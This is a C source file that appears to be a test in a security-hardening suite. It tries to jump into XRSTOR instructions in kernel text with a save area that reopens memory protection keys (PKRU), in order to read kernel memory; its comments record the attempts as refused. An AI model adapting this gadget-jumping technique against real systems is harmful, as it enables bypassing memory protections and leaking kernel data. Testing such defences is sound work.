/* A jump to each XRSTOR in the kernel's text with an area that holds an open PKRU; if one comes back, it reads kernel memory. */
/* skip none: without a key there is nothing to open */
/* pkey: refused */
/* process: refused */
#include "attack.h"

static char stack[1 << 16] __attribute__((aligned(16)));

static int came_back(void)
{
	_exit(*(volatile uint64_t *)CONTROL ? 0 : 255);
}

static int jump(void *to)
{
	static char area[4096] __attribute__((aligned(64)));
	*(uint64_t *)(area + 512) = 1 << 9;
	/* Every register that could be a return address or an area points into our own memory. */
	void **top = (void **)(stack + sizeof stack / 2);
	for (int i = -512; i < 512; i++)
		top[i] = came_back;
	asm volatile("mov %1, %%rsp; mov %0, %%r15; xor %%ecx, %%ecx; xor %%edx, %%edx; mov $0x200, %%eax;"
		     "mov %1, %%rbx; mov %1, %%rbp; mov %2, %%rsi; mov %2, %%rdi; mov %2, %%r8; mov %2, %%rcx; lea came_back(%%rip), %%r11; jmp *%%r15"
		     :: "r"(to), "r"(top), "r"(area) : "memory");
	return REFUSED;
}

/* The same for one that takes the area from the stack, at 0x40 as the dynamic linker has it, and goes on at rcx. */
static int jump_from_stack(void *to)
{
	static char room[8192] __attribute__((aligned(64)));
	char *top = room + 4096;
	*(uint64_t *)(top + 0x40 + 512) = 1 << 9;
	asm volatile("mov %1, %%rsp; mov %0, %%r15; xor %%edx, %%edx; mov $0x200, %%eax; lea came_back(%%rip), %%rcx; mov %%rcx, %%r11;"
		     "jmp *%%r15" :: "r"(to), "r"(top) : "memory");
	return REFUSED;
}

static int attack(void)
{
	for (int i = 0; place("ATTACK_XRSTOR", i); i++)
		if (try_apart(jump, (void *)place("ATTACK_XRSTOR", i)) == 0 ||
		    try_apart(jump_from_stack, (void *)place("ATTACK_XRSTOR", i)) == 0)
			return 0;
	return place("ATTACK_XRSTOR", 0) ? REFUSED : ENODATA;
}
